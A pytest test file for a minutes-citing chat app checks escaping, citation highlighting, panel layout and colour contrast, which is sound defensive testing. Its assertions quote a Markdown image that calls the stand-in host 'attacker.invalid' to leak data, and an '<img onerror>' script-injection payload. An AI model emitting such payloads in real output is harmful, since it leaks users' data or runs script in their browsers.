"""What a person reads in the chat and in the evidence panel: escaped, marked where it is cited, and in colours that stand out."""

from __future__ import annotations

import html
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answer import Claim
from index.heal import mask
from index.minutes import Item, Span
from tests.fakes_app import (
    AGREED,
    HARBOUR,
    HOSTILE,
    LIGHTING,
    PAYLOADS,
    QUIET,
    ScriptedAssistant,
    asked,
    cite,
)
from web.chat import Conversation, source
from web.inert import inert
from web.item_text import item_html
from web.message import answer_html, draft_html, question_html
from web.page import STYLE, messages
from web.panel import panel_html

TAGS = re.compile(r"<[^>]*>")


def marked(shown: str) -> list[str]:
    """The marked words, one entry for each line they stand in."""
    return [html.unescape(TAGS.sub("", words)) for words in re.findall(r"<mark>(.*?)</mark>", shown)]


def lines(shown: str) -> list[str]:
    return [html.unescape(TAGS.sub("", line)).strip() for line in re.findall(r"<p class=\"line[^>]*>(.*?)</p>", shown)]


def item_of(text: str) -> Item:
    return replace(LIGHTING, span=Span(0, len(text)))


# -- nothing of a text is read as HTML, Markdown, a formula or a template


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inert_text_holds_no_sign_that_means_anything(payload: str):
    shown = inert(payload)
    assert not set(re.sub(r"&#\d+;", "", shown)) & set('<>&"`*_[]{}$\\!#|~:@=/\n')
    assert html.unescape(shown) == " ".join(payload.split())


def test_inert_text_loses_invisible_characters_and_turned_writing():
    assert inert("a\u202eb\x00c\u200bd\ud800e\u00a0f") == "abcde f"


@pytest.mark.parametrize("question", ["tell me of the hostile minute", *PAYLOADS])
def test_an_exchange_has_no_tags_but_our_own(question: str):
    shown = "".join(message["content"] for message in messages(asked(question)))
    assert set(re.findall(r"<(\w+)", shown)) <= {"div", "p", "span", "a", "ul", "li", "button"}
    assert set(re.findall(r"<button [^>]*>", shown)) <= {'<button type="button" class="tool copy">'}
    assert set(re.findall(r'href="([^"]*)"', shown)) <= {"#cite-1-1", "#cite-1-2"}
    assert "\n" not in shown


def test_a_hostile_minute_is_text_in_the_panel():
    shown = source(ScriptedAssistant(), asked("hostile"), "1-1")
    assert set(re.findall(r"<(\w+)", shown)) == {*"section div h2 button p dl dt dd mark nav ul li a span".split()}
    assert marked(shown) == ["It noted ![leak](https://attacker.invalid/p.png?q=1) and"]
    assert "<img src=x onerror=alert(2)> was read out." in lines(shown)


# -- the panel


def test_the_panel_names_the_source_and_its_status_above_the_text():
    shown = panel_html(cite(1, HARBOUR, LIGHTING, AGREED), QUIET)
    assert [html.unescape(h) for h in re.findall(r"<h2[^>]*>(.*?)</h2>", shown)] == [
        "Harbour and Quays Board, 6 March 2019, minutes, item 2"
    ]
    assert "Draft: not yet accepted as a correct record" in html.unescape(shown)
    assert shown.index("source-title") < shown.index("source-status") < shown.index("source-text")


def test_the_item_is_laid_out_as_paragraphs_and_bullets_with_broken_lines_joined():
    shown = item_html(QUIET, LIGHTING, Span(0, 0))
    assert lines(shown) == [
        "Item 2: Lighting of the North Quay",
        "The Board considered a report on lighting. It noted that eleven lamps had failed since the autumn, and that the "
        "contractor would replace them by the end of May.",
        "The Harbour Master asked for a list of the lamps.",
        "The Board agreed to set aside £14,500 for the work, subject to a second quotation.",
        "a. Ms Okafor was to report back in June.",
        "It was noted that AT&T had offered to sponsor two lamps.",
    ]
    assert shown.count('class="line bullet"') == 3


def test_a_list_in_tags_is_laid_out_like_one_with_dashes():
    text = "<h3>Bins</h3><p>Two points:</p><ul><li>weekly</li><li>in <b>May</b></li></ul>"
    shown = item_html(text, item_of(text), Span(text.index("in <b>"), text.index("</b>")))
    assert lines(shown) == ["Bins", "Two points:", "weekly", "in May"]
    assert marked(shown) == ["in May"]


def test_a_short_line_ends_where_it_ends():
    text = "Present:\nAnn Lee, Chair\nBo Oak, Clerk"
    assert lines(item_html(text, item_of(text), Span(0, 0))) == ["Present:", "Ann Lee, Chair", "Bo Oak, Clerk"]


def test_bullets_within_a_line_are_laid_out_below_each_other():
    text = "It was noted: • eleven lamps had failed • the wait was 3•5 weeks"
    assert lines(item_html(text, item_of(text), Span(0, 0))) == ["It was noted:", "eleven lamps had failed", "the wait was 3•5 weeks"]


def test_a_citation_over_several_lines_is_marked_in_each():
    start, end = QUIET.index("the end of May"), QUIET.index(" for a list")
    assert marked(item_html(QUIET, LIGHTING, Span(start, end))) == ["the end of May.", "The Harbour Master asked"]


def test_the_mark_is_placed_by_the_span_where_the_same_words_stand_twice():
    text = "Agreed. The pump was discussed.\n\nAgreed. The roof was discussed."
    second = text.rindex("Agreed.")
    shown = item_html(text, item_of(text), Span(second, second + 7))
    assert shown.index("<mark>") > shown.index("pump")
    assert marked(shown) == ["Agreed."]


@given(st.integers(0, len(QUIET)), st.integers(0, len(QUIET)))
def test_exactly_the_cited_words_are_marked_and_no_word_of_the_item_is_lost(one: int, other: int):
    item, cited = LIGHTING.span, Span(min(one, other), max(one, other))
    shown = item_html(QUIET, LIGHTING, cited)
    within = mask(QUIET)[max(item.start, cited.start) : max(item.start, min(item.end, cited.end))]
    assert letters("".join(marked(shown))) == letters(within)
    assert letters("".join(lines(shown))).replace("amp", "") == letters(mask(QUIET[item.start : item.end])).replace("amp", "")


def letters(text: str) -> str:
    """Letters and figures alone: not the bullets, which the panel draws itself."""
    return "".join(c for c in html.unescape(text) if c.isalnum())


def test_a_source_that_is_gone_is_said_in_a_sentence():
    conversation = asked("lighting")
    exchange = conversation.exchanges[0]
    answer = exchange.answer
    assert answer is not None
    lost = replace(answer.citations[0], document=replace(HARBOUR, sha256="gone"))
    conversation = Conversation((replace(exchange, answer=replace(answer, citations=(lost,))),))
    assert "The file of this source is no longer held." in source(ScriptedAssistant(), conversation, "1-1")


# -- the answer


def test_an_answer_shows_status_verdict_links_notices_and_each_source_once():
    exchange = asked("lighting").exchanges[0]
    text = html.unescape(TAGS.sub("|", exchange.html))
    assert "|Answered|" in text
    assert "|Agreed|" in text
    assert "The next meeting may correct them".lower() in text.lower()
    assert text.count("Harbour and Quays Board, 6 March 2019, minutes, item 2") == 1
    assert "· draft" in text
    assert re.findall(r'href="#cite-(\d-\d)"', exchange.html) == ["1-1", "1-2", "1-1", "1-2"]


@pytest.mark.parametrize(
    ("question", "words"),
    [
        ("lighting", "Answered"),
        ("hostile", "Partly in the minutes"),
        ("a ferry", "Not recorded in the minutes"),
        ("which", "Which one do you mean?"),
    ],
)
def test_a_status_is_said_in_words(question: str, words: str):
    assert words in html.unescape(asked(question).exchanges[0].html)


def test_choices_are_a_list():
    assert asked("which").exchanges[0].html.count("<li>") == 2


def test_a_citation_without_a_source_is_no_link():
    answer = asked("lighting").exchanges[0].answer
    assert answer is not None
    shown = answer_html(replace(answer, citations=answer.citations[:1]), 1)
    assert set(re.findall(r"#cite-1-\d", shown)) == {"#cite-1-1"}
    assert '<span class="number">[2]</span>' in shown


def test_an_over_long_question_is_shown_cut():
    assert len(question_html("w" * 5000)) < 700


def claims(*sentences: tuple[str, str]) -> str:
    """What the chat shows while these sentences, each with its basis, have been written."""
    return draft_html([Claim(text, (), basis) for text, basis in sentences])  # type: ignore[arg-type]


def test_a_lead_the_words_of_the_minutes_and_what_they_lack_are_paragraphs_of_their_own():
    shown = claims(("Board, item 2:", "catalogue"), ("It was agreed.", "quote"), ("In May.", "quote"), ("No entry 2021/014.", "absence"))
    assert re.findall(r"<p class=\"(\w+)\">([^<]*)</p>", shown) == [
        ("lead", "Board, item 2&#58;"),
        ("text", "It was agreed. In May."),
        ("absence", "No entry 2021&#47;014."),
    ]


def test_three_rows_of_the_catalogue_are_a_list_and_two_are_not():
    rows = [(f"Meeting {n}.", "catalogue") for n in range(3)]
    assert claims(*rows).count("<li>") == 3
    assert claims(*rows[:2]).count("<li>") == 0


def test_many_sources_are_folded_away():
    answer = asked("lighting").exchanges[0].answer
    assert answer is not None
    many = tuple(replace(answer.citations[0], n=n, label=f"Board, item {n}") for n in range(1, 8))
    assert "<details" not in answer_html(replace(answer, citations=many[:6]), 1)
    assert "<summary>7 sources</summary>" in answer_html(replace(answer, citations=many), 1)


# -- contrast


def luminance(colour: str) -> float:
    """Relative luminance of ``#rrggbb``, by WCAG 2."""
    parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    bright, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (bright + 0.05) / (dark + 0.05)


def test_black_on_white_is_the_greatest_contrast():
    assert contrast("#000000", "#ffffff") == pytest.approx(21)


@pytest.mark.parametrize("screen", ["light", "dark"])
@pytest.mark.parametrize(
    "pair",
    "ink/paper ink/ground ink/none-bg soft/paper soft/ground link/paper link/ground mark-ink/mark button-ink/button "
    "button-ink/button-hover ok/ok-bg part/part-bg none/none-bg which/which-bg bad/bad-bg".split(),
)
def test_words_stand_out_from_their_ground_on_a_light_and_a_dark_screen(screen: str, pair: str):
    shared = next(file for file in STYLE if file.name == "common.css").read_text("utf-8")
    light, dark, *_ = re.findall(r":root {(.*?)}", shared, re.S)
    colours = dict(re.findall(r"--([\w-]+): (#\w{6})", light if screen == "light" else dark))
    words, ground = pair.split("/")
    assert contrast(colours[words], colours[ground]) >= 4.5


def test_the_hostile_minute_holds_every_payload():
    assert all(payload in HOSTILE for payload in PAYLOADS)
